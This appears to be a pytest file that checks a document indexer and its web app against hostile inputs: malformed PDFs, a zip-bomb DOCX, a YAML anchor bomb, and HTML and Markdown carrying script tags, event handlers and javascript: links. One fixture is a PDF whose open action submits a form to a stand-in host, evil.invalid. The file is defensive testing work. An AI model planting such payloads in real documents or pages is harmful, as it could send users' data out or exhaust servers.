"""A corpus of hostile files, generated here: each is reported clearly, none stops the run,
and the web app serves what was indexed without running anything from it.

Malformed, truncated, encrypted, zero-byte, huge and image-only PDFs, a PDF with embedded
JavaScript, a zip-bomb DOCX, HTML with scripts, Markdown with raw HTML and a YAML bomb,
non-UTF-8 and binary text files (fixtures in tests/indexer/conftest.py and below).
"""
from __future__ import annotations

import re

import os
import shutil
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript

from cli import EXIT_PARTIAL, main
from indexer.readers import MAX_FILE_BYTES
from indexer.ingest import ingest
from kb.base import KnowledgeBase
from kb.settings import Settings
from tests.indexer.conftest import REAL_PDF
from tests.web.conftest import close_app, make_app
from tests.web.pages import active_content

SCRIPTED_HTML = """<!doctype html><html><head><title>Briefing on neglect</title>
<script>document.cookie = "stolen"; alert('head')</script></head>
<body onload="alert('body')"><h1>Briefing on neglect</h1>
<p>The health visitor saw the father at home <img src=x onerror="alert('img')"> and neglect was recognised late.</p>
<script>alert('inline')</script><noscript>Turn on scripts</noscript>
<p><a href="javascript:alert('link')">Read the plan</a> about domestic abuse and the school.</p></body></html>
"""

RAW_HTML_MARKDOWN = """---
title: Review with raw markup
year: 2023
---

# Findings

The social worker <b onclick="alert('b')">visited</b> the family and the father was not seen.

<script>alert('block')</script>

<div onmouseover="alert('div')">A block of raw markup about neglect.</div>

[A link](javascript:alert('md-link')) to the health visitor's notes about domestic abuse.
"""

YAML_BOMB = """---
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
title: A briefing with a YAML bomb
---

# Learning

Practitioners did not see the father; neglect went unrecognised for months.
"""

#: What every reason ends with: what the person can do ("...; download it again").
ACTION = re.compile(r"[;,:] .*\b(?:open|save|download|copy|check|run|install|reinstall|index|correct)\b")

#: Files that must be refused, with the reason a person reads.
REFUSED = {
    "empty.pdf": "empty file",
    "notes.pdf": "not a PDF file",
    "page.pdf": "not a PDF file",
    "garbage.pdf": "damaged PDF: ",
    "truncated.pdf": "damaged PDF: ",
    "locked.pdf": "encrypted PDF: a password is needed",
    "scan.pdf": "no text layer: scanned documents need OCR, which is not supported",
    "huge.pdf": f"too large: {(MAX_FILE_BYTES >> 20) + 1} MB, more than the {MAX_FILE_BYTES >> 20} MB "
                "a report may be",
    "bomb.docx": "DOCX ",
    "letter.docx": "not a DOCX file: it is not a zip archive",
    "garbage.txt": "not a text file",
    "binary.md": "not a text file",
    "shift-jis.txt": "not a text file: the encoding is neither UTF-8 nor Windows-1252",
    "report.xyz": "unsupported file type .xyz",
}
#: Files that are read, with what hostile content they carry.
READ = ("cspr-with-javascript.pdf", "scripted-briefing.html", "raw-markup.md", "yaml-bomb.md",
        "cafe-notes.txt")


@pytest.fixture
def hostile_folder(tmp_path: Path, empty_file: Path, text_named_pdf: Path, truncated_pdf: Path,
                   password_pdf: Path, image_only_pdf: Path, zip_bomb_docx: Path,
                   not_a_zip_docx: Path, binary_text: Path, unknown_extension: Path,
                   cp1252_text: Path) -> Path:
    """Every hostile file in one folder, with one ordinary report."""
    folder = tmp_path / "hostile"
    folder.mkdir()
    for made in (empty_file, text_named_pdf, truncated_pdf, password_pdf, image_only_pdf,
                 zip_bomb_docx, not_a_zip_docx, binary_text, unknown_extension):
        shutil.move(made, folder / made.name)
    shutil.move(cp1252_text, folder / "cafe-notes.txt")
    (folder / "page.pdf").write_text("<html><script>alert('pdf')</script></html>")
    (folder / "garbage.pdf").write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 40)
    with open(folder / "huge.pdf", "wb") as huge:  # sparse: costs no disk
        huge.write(b"%PDF-1.7\n")
        huge.truncate(MAX_FILE_BYTES + (1 << 20))
    (folder / "binary.md").write_bytes(b"# Title\n\x00\x01\x02" + os.urandom(2000))
    (folder / "shift-jis.txt").write_bytes("児童保護の振り返り".encode("shift_jis") + b"\x81\x8d\x9d")
    scripted = PdfWriter(clone_from=REAL_PDF)
    scripted.add_open_action(JavaScript("app.alert('pwned'); this.submitForm('http://evil.invalid');"))
    scripted.write(folder / "cspr-with-javascript.pdf")
    (folder / "scripted-briefing.html").write_text(SCRIPTED_HTML)
    (folder / "raw-markup.md").write_text(RAW_HTML_MARKDOWN)
    (folder / "yaml-bomb.md").write_text(YAML_BOMB)
    shutil.copy(REAL_PDF.parent / "rapid-review-child-k.pdf", folder / "ordinary.pdf")
    return folder


def test_each_hostile_file_is_reported_and_the_rest_are_indexed(
        hostile_folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "data"
    code = main(["index", str(hostile_folder), "--data", str(data)])
    out = capsys.readouterr().out
    assert code == EXIT_PARTIAL
    assert out.splitlines()[0].startswith(f"{len(READ) + 1} new, 0 updated, 0 unchanged, "
                                          f"{len(REFUSED)} failed")
    reasons = {Path(line.split(": ", 2)[1]).name: line.split(": ", 2)[2]
               for line in out.splitlines() if line.startswith("  failed: ")}
    assert set(reasons) == set(REFUSED)
    for name, reason in REFUSED.items():
        assert reasons[name].startswith(reason), (name, reasons[name])
        assert "Traceback" not in reasons[name] and "\n" not in reasons[name]
        assert ACTION.search(reasons[name]), (name, reasons[name])
    assert "zip bomb" in reasons["bomb.docx"] or "would unpack" in reasons["bomb.docx"]
    with KnowledgeBase(Settings(data_dir=data)) as kb:
        documents = {d.filename: d for d in kb.store.documents()}
        assert set(documents) == set(READ) | {"ordinary.pdf"}
        texts = " ".join(p.text for p in kb.store.passages())
        assert kb.indexed_passage_ids() == {p.id for p in kb.store.passages()}
    assert "pwned" not in texts, "a PDF's JavaScript is not text"
    assert "alert('head')" not in texts and "alert('inline')" not in texts, "scripts are not text"
    assert "alert('block')" not in texts, "a raw HTML block in Markdown is left out"
    assert "<b onclick=\"alert('b')\">visited</b>" in texts, "inline markup is kept as text"
    assert documents["yaml-bomb.md"].meta.title == "A briefing with a YAML bomb"


def test_the_web_app_serves_what_was_indexed_without_running_any_of_it(
        hostile_folder: Path, tmp_path: Path) -> None:
    data = tmp_path / "data"
    with KnowledgeBase(Settings(data_dir=data)) as kb:
        ingest(kb, [hostile_folder])
        documents = kb.store.documents()
    app = make_app(data)
    try:
        client = app.test_client()
        addresses = ["/?q=father", "/?q=alert", "/?q=script", "/?q=pwned", "/?q=neglect", "/themes",
                     "/api/search?q=alert", "/api/search.csv?q=father"]
        addresses += [f"/documents/{d.id}" for d in documents]
        addresses += [f"/api/documents/{d.id}" for d in documents]
        for address in addresses:
            response = client.get(address)
            assert response.status_code == 200, address
            if response.mimetype == "text/html":
                assert active_content(response.get_data(as_text=True)) == [], address
        scripted = next(d for d in documents if d.filename == "cspr-with-javascript.pdf")
        original = client.get(f"/documents/{scripted.id}/file")
        assert original.mimetype == "application/pdf" and b"pwned" in original.data
        assert original.headers["X-Content-Type-Options"] == "nosniff"
        page = next(d for d in documents if d.filename == "scripted-briefing.html")
        assert client.get(f"/documents/{page.id}/file").headers[
            "Content-Security-Policy"].startswith("sandbox")
    finally:
        close_app(app)


def test_a_pdf_too_long_to_read_is_stopped_and_the_run_goes_on(tmp_path: Path) -> None:
    folder = tmp_path / "long"
    folder.mkdir()
    writer, reader = PdfWriter(), PdfReader(REAL_PDF)
    for number in range(3000):  # a few hundred KB on disk, many seconds to read
        writer.add_page(reader.pages[number % len(reader.pages)])
    writer.write(folder / "endless.pdf")
    shutil.copy(REAL_PDF, folder / "ordinary.pdf")
    with KnowledgeBase(Settings(data_dir=tmp_path / "data")) as kb:
        report = ingest(kb, [folder], timeout=2)
        assert [(Path(o.path).name, o.reason) for o in report.failed] == [
            ("endless.pdf", "took longer than 2 seconds to read, so it was stopped; if it is a very "
                            "long report, index it again with a longer --timeout")]
        assert [d.filename for d in kb.store.documents()] == ["ordinary.pdf"]
